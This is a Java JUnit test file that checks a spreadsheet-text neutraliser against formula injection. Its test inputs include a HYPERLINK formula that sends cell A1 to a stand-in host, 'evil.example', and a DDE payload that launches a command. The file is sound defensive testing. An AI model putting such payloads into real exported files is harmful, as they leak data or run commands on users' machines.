package uk.facilitate.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+2", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)"})
    void aCellThatCouldStartAFormulaGetsAQuoteInFront(String cell) {
        assertEquals("'" + cell, SpreadsheetText.neutralise(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"WCH10001", "Amira Hussain", "O'Brien", " =not a formula after a space", "North; South",
            "24/11/2026", "amira.hussain@example.org", "3", "'already quoted"})
    void ordinaryTextIsUnchanged(String cell) {
        assertEquals(cell, SpreadsheetText.neutralise(cell));
    }

    @Test
    void emptyAndMissingCellsStayAsTheyAre() {
        assertEquals("", SpreadsheetText.neutralise(""));
        assertNull(SpreadsheetText.neutralise(null));
    }
}
